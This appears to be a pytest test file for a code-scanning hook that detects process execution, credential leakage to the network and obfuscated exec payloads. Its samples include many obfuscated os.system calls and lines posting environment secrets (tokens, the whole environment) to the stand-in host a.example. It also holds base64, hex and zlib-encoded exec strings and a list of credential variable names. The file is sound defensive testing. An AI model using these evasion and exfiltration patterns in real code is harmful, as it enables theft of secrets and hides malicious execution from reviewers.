"""One file of source: names are followed, data is followed, and what matters is noted with them."""

from __future__ import annotations

import base64
import zlib

import pytest

from support.code import kinds, read, seen, taints
from veln_hook.source import vocabulary as v
from veln_hook.source.variables import is_credential_name

SYSTEM = "import os\nos.system('id')\n"
PACKED = base64.b64encode(SYSTEM.encode()).decode()


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('id')",
        "import os as o\no.system('id')",
        "from os import system\nsystem('id')",
        "from os import system as s\ns('id')",
        "import os\nf = os.system\nf('id')",
        "import os\nf, g = os.system, 1\nf('id')",
        "import os\ng = o = os\no.system('id')",
        "import os\n(f := os.system)('id')",
        "import os\ngetattr(os, 'system')('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\ngetattr(os, 'metsys'[::-1])('id')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
        "import os\ngetattr(os, chr(115) + chr(121) + 'stem')('id')",
        "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('id')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
        "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('id')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')",
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')",
        "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')",
        "import os\na = 'sys'\ngetattr(os, f'{a}tem')('id')",
        "import os\nd = {'x': 'system'}\ngetattr(os, d['x'])('id')",
        "import os\nvars(os)['system']('id')",
        "import os\nos.__dict__['system']('id')",
        "__import__('os').system('id')",
        "__import__('o' + 's').system('id')",
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
        "import importlib\nimportlib.import_module('os').system('id')",
        "from importlib import import_module as im\nim('os').system('id')",
        "import importlib\nimportlib.__import__('os').system('id')",
        "import os\nglobals()['os'].system('id')",
        "import os as o\nglobals()['o'].system('id')",
        "import sys, os\nsys.modules['os'].system('id')",
        "import builtins\nbuiltins.__import__('os').system('id')",
        "__builtins__.__import__('os').system('id')",
        "__builtins__['__import__']('os').system('id')",
        "import os\ntry:\n    pass\nfinally:\n    os.system('id')",
        "import os\nif x:\n    pass\nelif os.system('id'):\n    pass",
        "import os\nassert os.system('id')",
        "import os\nx = [os.system('id') for _ in y]",
        "import os\nx: int = os.system('id')",
        "import os\nx += os.system('id')",
        "import os\nprint(f'{os.system(1)}')",
        "import os\nwith a as b, os.popen('id'):\n    pass",
        "import os\nraise E(os.system('id'))",
        "import os\ndef f(x=os.system('id')):\n    pass",
        "import os\nclass C:\n    x = os.system('id')",
        "import os\n@os.system\ndef f():\n    pass",
        "from os import *\nsystem('id')",
        "import os\nx = lambda: os.system('id')",
        "import os\nasync def f():\n    await g(os.system('id'))",
        "import os\nfor x in os.popen('id'):\n    pass",
        "import os\nwhile os.system('id'):\n    pass",
        "import os\nreturn_ = (yield os.system('id')) if 0 else os.system('id')\n"
        if False
        else "import os\na = b if os.system('id') else c",
        "import os\na = b and os.system('id')",
        "import os\na[os.system('id')] = 1",
        "import os\nf(*os.popen('id'), **os.popen('id'))",
        "import os\ndel a\nx = not os.system('id')",
    ],
)
def test_a_process_is_seen_under_any_name(source):
    assert v.PROC in kinds(source), seen(source)


@pytest.mark.parametrize(
    "source",
    [
        "system = print\nsystem('id')",
        "import os\nos.path.join('a', 'b')",
        "import subprocess\nx = subprocess.PIPE",
        "class os:\n    @staticmethod\n    def system(x):\n        pass\nos.system('id')",
        "def f(os):\n    os.system('id')",
        "'import os; os.system(1)'",
        "# os.system('id')",
    ],
)
def test_no_process_is_seen_where_none_is(source):
    assert v.PROC not in kinds(source), seen(source)


@pytest.mark.parametrize(
    "read_it",
    [
        "os.environ['A_TOKEN']",
        "os.environ.get('A_TOKEN')",
        "os.environ.get('A_TOKEN', '')",
        "os.environ.pop('A_TOKEN')",
        "os.environ.setdefault('A_TOKEN', '')",
        "os.environ.__getitem__('A_TOKEN')",
        "os.getenv('A_TOKEN')",
        "os.getenv(key='A_TOKEN')",
        "os.environb[b'A_TOKEN']" if False else "os.getenv('A_' + 'TOKEN')",
        "getattr(os, 'environ')['A_TOKEN']",
        "getattr(os, 'getenv')('A_TOKEN')",
        "(os.environ.get('A_TOKEN') or '')",
        "f\"{os.environ['A_TOKEN']}\"",
        "str(os.environ['A_TOKEN'])",
        "os.environ['A_TOKEN'].encode().hex()",
        "base64.b64encode(os.environ['A_TOKEN'].encode())",
        "json.dumps({'a': [os.environ['A_TOKEN']]})",
        "('x', os.environ['A_TOKEN'])",
        "[*'x', os.environ['A_TOKEN']]",
        "'?k=' + os.environ['A_TOKEN']",
        "'?k=%s' % os.environ['A_TOKEN']",
        "'?k={}'.format(os.environ['A_TOKEN'])",
        "[os.environ[n] for n in ('A_TOKEN', 'HOME')]",
        "{n: os.environ.get(n) for n in ['A_TOKEN', 'HOME']}",
        "''.join(os.environ.get(n) for n in ['A_TOKEN'])",
        "os.environ['A_TOKEN'] if x else ''",
    ],
)
@pytest.mark.parametrize(
    "head",
    [
        "import os, base64, json, requests",
        "import os as o, base64, json, requests\nos = o",
        "import base64, json, os, requests\n",
    ],
)
def test_a_secret_is_followed_into_a_request(head, read_it):
    source = f"{head}\nrequests.post('https://a.example', data={read_it})\n"
    assert "cred" in taints(source, v.NET)
    assert v.CRED in kinds(source)
    source = f"{head}\nx = {read_it}\ny = [x]\nrequests.post('https://a.example', data=y)\n"
    assert "cred" in taints(source, v.NET)


def test_environ_by_its_own_name():
    for line in ("environ['A_TOKEN']", "environ.get('A_TOKEN')", "getenv('A_TOKEN')"):
        source = (
            f"from os import environ, getenv\nimport requests\nrequests.get('https://a.example/' + {line})\n"
        )
        assert "cred" in taints(source, v.NET)
    source = (
        "from os import environ as e\nimport requests\nrequests.get('https://a.example/' + e['A_TOKEN'])\n"
    )
    assert "cred" in taints(source, v.NET)


@pytest.mark.parametrize(
    "body",
    [
        "x = {}\nfor n in ('A_TOKEN', 'B_KEY'):\n    x[n] = os.environ.get(n)\n",
        "x = {}\nfor n in ('A_TOKEN',):\n    v = os.environ.get(n)\n    if v:\n        x[n] = v\n",
        "x = []\nfor n in ('A_TOKEN',):\n    x.append(os.environ.get(n))\n",
        "x = ''\nfor n in ('A_TOKEN',):\n    x += os.environ.get(n)\n",
        "x = []\nx.extend([os.environ['A_TOKEN']])\n",
        "x = {}\nx.update(a=os.environ['A_TOKEN'])\n",
        "x = set()\nx.add(os.environ['A_TOKEN'])\n",
        "x = dict(a=os.environ['A_TOKEN'])\n",
        "N = ['A_TOKEN']\nx = [os.environ[n] for n in N]\n",
        "a, x = 1, os.environ['A_TOKEN']\n",
        "x = (y := os.environ['A_TOKEN'])\n",
        "class C: pass\nc = C()\nc.x = os.environ['A_TOKEN']\nx = c.x\n",
    ],
)
def test_a_secret_is_followed_through_containers(body):
    source = f"import os, requests\n{body}requests.post('https://a.example', json=x)\n"
    assert "cred" in taints(source, v.NET), seen(source)


@pytest.mark.parametrize(
    "sweep",
    [
        "dict(os.environ)",
        "str(os.environ)",
        "repr(os.environ)",
        "json.dumps(dict(os.environ))",
        "{**os.environ}",
        "os.environ",
        "os.environ.copy()",
        "list(os.environ.items())",
        "{k: v for k, v in os.environ.items()}",
        "{k: os.environ[k] for k in os.environ}",
        "[os.environ[k] for k in os.environ if 'TOKEN' in k]",
        "'\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
        "urllib.parse.urlencode(os.environ)",
    ],
)
def test_the_whole_environment_is_followed(sweep):
    source = f"import json, os, requests, urllib.parse\nrequests.post('https://a.example', data={sweep})\n"
    assert taints(source, v.NET) & {"env", "cred"}


@pytest.mark.parametrize(
    "name", ["HOME", "PATH", "SSH_AUTH_SOCK", "PWD", "TOKENIZERS_PARALLELISM", "XAUTHORITY"]
)
def test_variables_that_are_no_secrets(name):
    assert v.CRED not in kinds(f"import os\nos.environ['{name}']\n")
    assert not is_credential_name(name)


@pytest.mark.parametrize(
    "name",
    [
        "A_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "GITHUB_TOKEN",
        "NPM_TOKEN",
        "DB_PASSWORD",
        "DATABASE_URL",
        "OPENAI_API_KEY",
        "KUBECONFIG",
    ],
)
def test_variables_that_are(name):
    assert is_credential_name(name)


@pytest.mark.parametrize(
    "code",
    [
        f"import base64\nexec(base64.b64decode('{PACKED}'))",
        f"import base64 as b\nexec(b.b64decode('{PACKED}').decode())",
        f"from base64 import b64decode\nexec(compile(b64decode('{PACKED}'), '', 'exec'))",
        f"import base64\nx = '{PACKED}'\ndef f():\n    exec(base64.b64decode(x))",
        f"import base64\nexec(base64.b64decode('{PACKED[:8]}' + '{PACKED[8:]}'))",
        f"import base64\nexec(base64.b64decode('{PACKED}'[::-1][::-1]))",
        f"import base64\nexec(base64.b64decode(base64.b64decode('{base64.b64encode(PACKED.encode()).decode()}')))",
        f"exec(bytes.fromhex('{SYSTEM.encode().hex()}'))",
        f"import binascii\nexec(binascii.unhexlify('{SYSTEM.encode().hex()}'))",
        f"import codecs\nexec(codecs.decode('{SYSTEM.encode().hex()}', 'hex'))",
        f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(SYSTEM.encode())).decode()}')))",
        f"exec(''.join(map(chr, {[ord(c) for c in SYSTEM]})))",
        f"exec(''.join([chr(c) for c in {[ord(c) for c in SYSTEM]}]))",
        f"exec(''.join(chr(c - 3) for c in {[ord(c) + 3 for c in SYSTEM]}))",
        f"exec(bytes({list(SYSTEM.encode())}).decode())",
        f"e = exec\ne({SYSTEM!r} + '#' * 20)",
        f"exec({f'exec({SYSTEM!r})'!r})",
        f"eval(compile({SYSTEM!r}, 'x', 'exec'))",
    ],
)
def test_code_in_a_literal_is_read(code):
    found = seen(code, v.PROC)
    assert found, seen(code)
    assert all("payload" in each[3] for each in found)


def test_code_in_literals_is_read_only_so_deep():
    code = "import os; os.system('id')"
    for _ in range(12):
        code = f"exec({code!r})" if len(code) < 5_000 else code
    read(code)


def test_scopes_calls_and_exports():
    facts = read(
        "import a.b as c\nfrom .d import e as f\nfrom ..g import *\n\nclass C(c.Base):\n    def m(self):\n        self.n()\n    def n(self):\n"
        "        f()\n\ndef top():\n    import late\n    return C().m()\n\nif __name__ == '__main__':\n    top()\n"
    )
    by_name = {scope.name: {call.target for call in scope.calls} for scope in facts.scopes}
    assert by_name["C.m"] == {":C.n"}
    assert by_name["C.n"] == {".d.e"}
    assert {"@late", ":C", ":C.m"} <= by_name["top"]
    assert ":top" in by_name["__main__"]
    assert ":top" not in by_name[""]
    assert {"a.b", ".d", "..g"} <= set(facts.imports)
    assert ("f", ".d.e") in facts.exports
    assert ("C", "a.b.Base") in facts.bases


def test_imports_for_a_type_checker_do_not_count():
    source = "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import evil\nelse:\n    import good\n"
    assert "evil" not in read(source).imports
    assert "good" in read(source).imports
    assert "evil" not in read(source.replace("if TYPE_CHECKING", "if typing.TYPE_CHECKING")).imports


@pytest.mark.parametrize("test", ["not TYPE_CHECKING", "TYPE_CHECKING or True", "(TYPE_CHECKING,)"])
def test_a_look_alike_of_the_type_checkers_test_counts(test):
    assert "evil" in read(f"from typing import TYPE_CHECKING\nif {test}:\n    import evil\n").imports


def test_a_type_checkers_name_that_is_bound_here_counts():
    assert "evil" in read("TYPE_CHECKING = True\nif TYPE_CHECKING:\n    import evil\n").imports


def test_code_for_a_type_checker_is_noted_all_the_same():
    assert v.PROC in kinds("import os\nTYPE_CHECKING = 1\nif TYPE_CHECKING:\n    os.system('id')\n")


@pytest.mark.parametrize(
    "source",
    [
        "p = []\np.append('import os')\nexec(''.join(p))",
        "s = ''\nfor x in ['imp', 'ort os']:\n    s += x\nexec(s)",
        "s = ''\ni = 0\nT = ['imp', 'ort os']\nwhile i < len(T):\n    s += T[i]\n    i += 1\nexec(s)",
        "s = ''\ndef f():\n    global s\n    s = 'import os' * 20\nf()\nexec(s)",
        "if x:\n    s = 'import os' * 20\nelse:\n    s = ''\nexec(s)",
        "try:\n    s = open('x').read()\nexcept Exception:\n    s = ''\nexec(s)",
    ],
)
def test_code_is_not_taken_for_the_constant_that_was_bound_last(source):
    assert v.EXEC in kinds(source), seen(source)


@pytest.mark.parametrize(
    "source",
    [
        "if x:\n    f = os.system\nelse:\n    f = print\nf('id')",
        "try:\n    f = os.system\nexcept Exception:\n    f = print\nf('id')",
        "for f in (os.system,):\n    f('id')",
        "[os.system][0]('id')",
        "{'a': os.system}['a']('id')",
        "def f(x):\n    x('id')\nf(os.system)",
        "max(['id'], key=os.system)",
        "os.system.__call__('id')",
        "os.__getattribute__('system')('id')",
        "operator.methodcaller('system', 'id')(os)",
        "operator.attrgetter('system')(os)('id')",
    ],
)
def test_a_process_is_seen_where_its_function_is_handed_on(source):
    assert v.PROC in kinds(f"import operator, os\n{source}\n"), seen(f"import operator, os\n{source}\n")
